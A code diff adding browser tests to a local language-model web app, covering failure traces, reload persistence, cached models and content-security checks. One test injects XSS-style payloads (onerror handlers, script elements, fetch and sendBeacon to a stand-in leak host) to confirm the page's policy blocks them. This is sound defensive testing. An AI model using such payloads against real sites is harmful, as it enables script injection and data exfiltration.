@@ -5,6 +5,7 @@ use serde_json::{Value, json};
 
 use super::{LOADED, READY, ROOT, Result, SOON, STATE, Site, clean, press_start, screenshot};
 use crate::devtools::Browser;
+use crate::server;
 
 /// The answer of the page's latest reply has come.
 const ANSWERED: &str = "document.body.dataset.state === 'loaded' && secateur.replies.at(-1)?.json";
@@ -219,6 +220,104 @@ pub fn errors_are_shown_and_survived(site: &Site) -> Result {
     clean(&mut browser)
 }
 
+/// What a run had done before it failed can be looked at.
+pub fn a_run_that_fails_keeps_its_trace(site: &Site) -> Result {
+    let mut browser = scripted(site)?;
+    press_start(&mut browser, "fail")?;
+    browser.wait("!$('error').hidden", STATE, SOON)?;
+    let found = browser.eval("[secateur.replies[0].json, document.querySelector('.actions').hidden, $('error-text').textContent, secateur.history.length]")?;
+    ensure!(found == json!(["{\"trace\": \"of what failed\"}", false, "the device is gone", 0]), "after it: {found}");
+    let state = browser.eval("document.querySelector('.state').textContent")?;
+    ensure!(state == "Decoding stopped", "the reply that failed says {state}");
+    clean(&mut browser)
+}
+
+/// A reload shows what was there, and the conversation goes on, until a new one is begun.
+pub fn a_conversation_survives_a_reload(site: &Site) -> Result {
+    // Of each reply: its title, thoughts, cuts, answer, notes and state, and whether it has a trace.
+    const SHOWN: &str = "JSON.stringify([...document.querySelectorAll('.turn')].map((turn) => [turn.querySelector('.question').textContent,
+        ...[...turn.querySelectorAll('.reply')].map((reply) => [...['h3', '.thinking summary', '.thoughts', '.answer', '.notes', '.state'].map(
+            (part) => reply.querySelector(part).textContent), [...reply.querySelectorAll('del.cut')].map((cut) => cut.textContent).join(''),
+            reply.querySelector('.actions').hidden])]))";
+    let mut browser = scripted(site)?;
+    browser.eval("$('compare').value = 'full'")?;
+    press_start(&mut browser, "go")?;
+    browser.wait(&format!("secateur.replies.length === 2 && ({ANSWERED})"), STATE, SOON)?;
+    browser.eval("$('compare').value = ''")?;
+    ask(&mut browser, "go on")?;
+    let before = browser.eval(SHOWN)?;
+    ensure!(before.as_str().is_some_and(|text| text.contains("Größe") && text.contains("full cache")), "{before}");
+    let url = site.url("/scripted/?policy=random");
+    browser.open(&url)?;
+    browser.wait(READY, STATE, SOON)?;
+    let after = browser.eval(SHOWN)?;
+    ensure!(before == after, "before the reload {before}, after it {after}");
+    ensure!(
+        browser.eval("$('welcome').hidden && !$('reset').hidden")? == true,
+        "the welcome is shown above a conversation"
+    );
+    browser.eval("document.querySelector('.actions button').click()")?;
+    browser.wait("$('report-dialog').open", STATE, SOON)?;
+    browser.eval("$('report-close').click()")?;
+    browser.eval("$('builtin').click()")?;
+    browser.wait(LOADED, STATE, SOON)?;
+    let asked = refused(&mut browser)?;
+    let expected: Vec<Value> = ["go", "<b>42</b>", "go on", "<b>42</b>", "refuse"].map(Value::from).to_vec();
+    let contents: Vec<Value> =
+        asked["messages"].as_array().into_iter().flatten().map(|m| m["content"].clone()).collect();
+    ensure!(contents == expected, "the conversation went on with {asked}");
+    // Traces that have no room are left out, the oldest first; the text stays.
+    let kept = browser.eval(
+        "import('/keep.js').then(({ keepConversation, keptConversation }) => {
+           const turn = (question) => ({ question, replies: [{ json: 'x'.repeat(3e6) }] });
+           keepConversation({ history: [], turns: [turn('old'), turn('new')] });
+           return keptConversation().turns.map(({ question, replies }) => [question, replies[0].json?.length ?? 0]);
+         })",
+    )?;
+    ensure!(kept == json!([["old", 0], ["new", 3_000_000]]), "with little room, this is kept: {kept}");
+    browser.eval("$('reset').click()")?;
+    browser.open(&url)?;
+    browser.wait(READY, STATE, SOON)?;
+    let found =
+        browser.eval("[document.querySelectorAll('.turn').length, $('welcome').hidden, secateur.history.length]")?;
+    ensure!(found == json!([0, false, 0]), "after a new chat: {found}");
+    clean(&mut browser)
+}
+
+/// The dialog lists the models that were fetched; one button loads such a model, the other removes it.
+pub fn kept_models_are_listed(site: &Site) -> Result {
+    const MODEL: &str = "/tests/golden/qwen2-f16/";
+    const LIST: &str = "[...$('kept-list').children].map((item) => item.textContent)";
+    let mut browser = site.open(&format!("/scripted/?model={MODEL}"))?;
+    browser.wait(LOADED, STATE, SOON)?;
+    browser.open(&site.url("/scripted/"))?;
+    browser.wait(READY, STATE, SOON)?;
+    browser.eval("$('model-button').click()")?;
+    browser.wait("!$('kept').hidden", LIST, SOON)?;
+    let found = browser.eval(LIST)?;
+    let address = site.url(MODEL);
+    let shown = found[0].as_str().unwrap_or("");
+    ensure!(
+        shown.starts_with(address.trim_start_matches("http://")) && shown.ends_with(" MB Load Remove"),
+        "the list: {found}"
+    );
+    ensure!(found[1].is_null(), "the list: {found}");
+    server::requests();
+    browser.eval("$('kept-list').querySelector('button').click()")?;
+    browser.wait(LOADED, STATE, SOON)?;
+    let bodies: Vec<_> = server::requests()
+        .into_iter()
+        .filter(|r| r.path.ends_with(".safetensors") && r.method == "GET" && r.start.is_none())
+        .collect();
+    ensure!(bodies.is_empty(), "a kept model was fetched again: {bodies:?}");
+    browser.eval("$('model-button').click()")?;
+    browser.wait("$('kept-list').children.length === 1", LIST, SOON)?;
+    browser.eval("$('kept-list').querySelector('button:last-of-type').click()")?;
+    browser.wait("$('kept').hidden", LIST, SOON)?;
+    ensure!(browser.eval("$('kept-list').children.length")? == 0, "a removed model is still listed");
+    clean(&mut browser)
+}
+
 /// After a crash and after the loss of the GPU there is a new engine with the same model, and the next question works.
 pub fn an_engine_that_fails_is_replaced(site: &Site) -> Result {
     for (prompt, title) in [("crash", "The engine crashed"), ("lose", "The GPU was lost")] {
@@ -305,6 +404,97 @@ pub fn markdown_is_set_and_loads_nothing(site: &Site) -> Result {
     let hosts =
         browser.eval("performance.getEntriesByType('resource').filter((r) => !r.name.startsWith(origin)).length")?;
     ensure!(hosts == 0, "the page loads from other hosts");
+    clean(&mut browser)
+}
+
+/// Even if text of an answer became elements, nothing of it would run, and nothing would be sent to another host. The worker
+/// may fetch models, from hosts that are named by `https:`, and can do nothing else.
+pub fn the_page_asks_nobody_else(site: &Site) -> Result {
+    let mut browser = scripted(site)?;
+    ask(&mut browser, "go")?;
+    let other = server::serve(0, |_| vec![Path::new(ROOT).join("web/style.css")]).map_err(|e| e.to_string())?;
+    let other = format!("http://127.0.0.1:{other}/leak");
+    server::requests();
+    browser.eval(&format!(
+        "globalThis.seen = [];
+         document.addEventListener('securitypolicyviolation', ({{ effectiveDirective }}) => seen.push(effectiveDirective));
+         const answer = document.querySelector('.answer');
+         const add = (html) => answer.insertAdjacentHTML('beforeend', html);
+         add('<img src=\"/missing\" onerror=\"window.hacked = 1\">');
+         add('<img src=\"{other}\">');
+         add('<link rel=\"stylesheet\" href=\"{other}\">');
+         add('<p style=\"background: url({other})\">styled</p>');
+         add('<iframe src=\"{other}\"></iframe>');
+         add('<base href=\"{other}\">');
+         for (const [key, value] of [['textContent', 'window.hacked = 2'], ['src', '{other}']]) {{
+           answer.append(Object.assign(document.createElement('script'), {{ [key]: value }}));
+         }}
+         setTimeout('window.hacked = 3');
+         fetch('{other}').catch(() => seen.push('fetch failed'));
+         navigator.sendBeacon('{other}');
+         0",
+    ))?;
+    // DevTools may call eval, so a timer has the text of a script.
+    let expected = json!([
+        "base-uri",
+        "connect-src",
+        "fetch failed",
+        "frame-src",
+        "img-src",
+        "script-src",
+        "script-src-attr",
+        "script-src-elem",
+        "style-src-attr",
+        "style-src-elem",
+    ]);
+    let found = "[...new Set(seen)].sort()";
+    browser.wait(&format!("{found}.length >= 10"), found, SOON)?;
+    let found = browser.eval(found)?;
+    ensure!(found == expected, "the page refused {found}");
+    let worker = browser.eval_in_worker(&format!(
+        "(async () => {{
+           const refused = [];
+           addEventListener('securitypolicyviolation', ({{ effectiveDirective }}) => refused.push(effectiveDirective));
+           await fetch('http://example.org/').catch(() => refused.push('fetch failed'));
+           await import('{other}').catch(() => refused.push('import failed'));
+           setTimeout('globalThis.hacked = 1');
+           await new Promise((resolve) => setTimeout(resolve, 100));
+           return [typeof globalThis.hacked, [...new Set(refused)].sort()];
+         }})()"
+    ))?;
+    let expected =
+        json!(["undefined", ["connect-src", "fetch failed", "import failed", "script-src", "script-src-elem"]]);
+    ensure!(worker == expected, "the worker refused {worker}");
+    ensure!(browser.eval("typeof window.hacked")? == "undefined", "text of an answer was run");
+    let leaks: Vec<_> = server::requests().into_iter().filter(|r| r.path.starts_with("/leak")).collect();
+    ensure!(leaks.is_empty(), "another host was asked: {leaks:?}");
+    Ok(())
+}
+
+/// web/FILES names every file that the page loads, and each of them exists.
+pub fn the_page_is_made_of_the_files_that_are_listed(site: &Site) -> Result {
+    let web = Path::new(ROOT).join("web");
+    let list = fs::read_to_string(web.join("FILES")).map_err(|e| e.to_string())?;
+    let listed: Vec<&str> = list.lines().filter(|line| !line.starts_with('#')).collect();
+    for name in &listed {
+        let optional = *name == "vendor/" && env::var_os("CI").is_none();
+        ensure!(optional || web.join(name).exists(), "web/{name} is listed and does not exist");
+    }
+    server::requests();
+    let mut browser = scripted(site)?;
+    ask(&mut browser, "markdown")?;
+    browser.eval("document.querySelector('.actions button').click()")?;
+    browser.wait("$('report-dialog').open", STATE, SOON)?;
+    load_builtin(&mut browser)?;
+    let asked = server::requests();
+    ensure!(asked.len() > 10, "the page asked for {asked:?}");
+    let asked = asked.iter().filter_map(|r| r.path.strip_prefix("/scripted/"));
+    let is_listed = |path: &str| {
+        path.is_empty() || listed.iter().any(|name| path == *name || (name.ends_with('/') && path.starts_with(name)))
+    };
+    // The browser asks for maps of the source, and so may the page for files that npm has not installed.
+    let others: Vec<&str> = asked.filter(|path| !is_listed(path)).collect();
+    ensure!(others.is_empty(), "web/FILES does not list {others:?}");
     clean(&mut browser)
 }
 
